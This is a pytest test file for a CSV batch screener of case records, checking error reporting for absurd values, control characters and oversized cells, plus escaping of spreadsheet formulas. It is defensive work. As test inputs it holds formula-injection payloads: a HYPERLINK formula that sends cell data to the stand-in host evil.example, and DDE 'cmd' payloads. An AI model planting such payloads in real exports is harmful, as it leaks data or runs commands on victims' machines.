"""Batch hygiene (issue 9): a row that cannot be screened goes to the errors file with its row
number and the batch goes on; no cell of the output can run as a spreadsheet formula."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from discretion import batch, docket
from discretion.policies import shipped

POLICY = shipped().select(date(2026, 3, 1))
ON = date(2026, 3, 1)
FAMILY = ["family.usc_children", "family.lpr_children", "family.other_children", "family.spouse",
          "family.usc_parents", "family.lpr_parents"]  # fmt: skip
HEADER = ["case_id", "employment.years_worked_in_us", "employment.tax_years", "identity.name",
          "entry.first_entry_on", *FAMILY]  # fmt: skip


def rows_file(tmp_path: Path, rows: list[list[str]]) -> Path:
    path = tmp_path / "cases.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


def row(case_id: str, **cells: str) -> list[str]:
    values = {"case_id": case_id, "employment.years_worked_in_us": "5", "employment.tax_years": "2020;2021",
              "identity.name": "Ana", "entry.first_entry_on": "2010-01-01",
              **dict.fromkeys(FAMILY, "0"), "family.spouse": "none"}  # fmt: skip
    values.update({k.replace("__", "."): v for k, v in cells.items()})
    return [values[h] for h in HEADER]


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def run(tmp_path: Path, rows: list[list[str]]) -> tuple[batch.Summary, list[list[str]], list[list[str]]]:
    results, errors = tmp_path / "results.csv", tmp_path / "errors.csv"
    summary = batch.run(rows_file(tmp_path, rows), results, policy=POLICY, on=ON, errors=errors)
    return summary, read(results), read(errors)


def test_absurd_numbers_and_control_characters_go_to_the_errors_file_and_the_batch_goes_on(tmp_path):
    summary, results, errors = run(
        tmp_path,
        [
            row("OK-1"),
            row("KIDS", family__usc_children="1000000000"),  # once exhausted the memory of the run
            row("YEARS", employment__years_worked_in_us="100000000000000"),
            row("TAX", employment__tax_years="2020;-3"),
            row("FAR", entry__first_entry_on="9999-12-31"),
            row("DIGITS", employment__years_worked_in_us="9" * 5000),
            row("NUL", identity__name="Ana\x00"),
            row("VT", identity__name="Ana\x0bLópez"),
            row("OK-2"),
        ],
    )
    assert [r[1] for r in results[1:]] == ["OK-1", "OK-2"]
    assert summary.screened == 2 and summary.rejected == 7
    by_row = {int(r[0]): (r[1], r[2]) for r in errors[1:]}
    assert by_row[3] == ("family.usc_children", f"1000000000 is out of range (0 to {docket.MAX_RECORDS})")
    assert by_row[4][0] == "employment.years_worked_in_us" and "out of range" in by_row[4][1]
    assert by_row[5][0] == "employment.tax_years"
    assert by_row[6] == ("entry.first_entry_on", "9999-12-31 is out of range (years 1800–2200)")
    assert by_row[7][0] == "employment.years_worked_in_us" and len(by_row[7][1]) < 100
    assert by_row[8] == (
        "identity.name",
        "contains a NUL character (U+0000) at position 4, which is not allowed",
    )
    assert by_row[9][0] == "identity.name" and "vertical tab" in by_row[9][1]


def test_a_row_the_screener_fails_on_is_reported_and_the_rest_are_screened(tmp_path, monkeypatch):
    real = batch.screen_outcomes

    def fragile(facts, policy, *, on):
        if facts.case_id == "BOOM":
            raise OverflowError("date value out of range")
        return real(facts, policy, on=on)

    monkeypatch.setattr(batch, "screen_outcomes", fragile)
    summary, results, errors = run(tmp_path, [row("A"), row("BOOM"), row("C")])
    assert [r[1] for r in results[1:]] == ["A", "C"]
    assert errors[1:] == [["3", "(row)", "cannot be screened (OverflowError: date value out of range)"]]


def test_a_cell_over_the_csv_size_limit_is_one_row_error(tmp_path):
    summary, results, errors = run(tmp_path, [row("A"), row("HUGE", identity__name="x" * 200_000), row("C")])
    assert [r[1] for r in results[1:]] == ["A", "C"]
    assert errors[1][0] == "3" and "over 131,072 characters" in errors[1][2]


@pytest.mark.parametrize(
    "case_id",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2",
        "-1+2",
    ],  # fmt: skip
)
def test_no_cell_of_results_or_errors_can_run_as_a_formula(tmp_path, case_id):
    _, results, errors = run(tmp_path, [row(case_id), row(case_id, employment__years_worked_in_us="=1+1")])
    assert results[1][1] == "'" + case_id
    assert errors[1][2].startswith("'=1+1") or "'=1+1'" in errors[1][2]
    for line in results + errors:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_an_unknown_column_of_thousands_of_characters_is_named_short(tmp_path):
    from discretion.errors import BatchError

    cases = tmp_path / "cases.csv"
    cases.write_text("case_id,community." + "9" * 5000 + "\nA,1\n", encoding="utf-8")
    with pytest.raises(BatchError, match="unknown column") as caught:
        batch.run(cases, tmp_path / "results.csv", policy=POLICY, on=ON)
    assert len(str(caught.value)) < 400
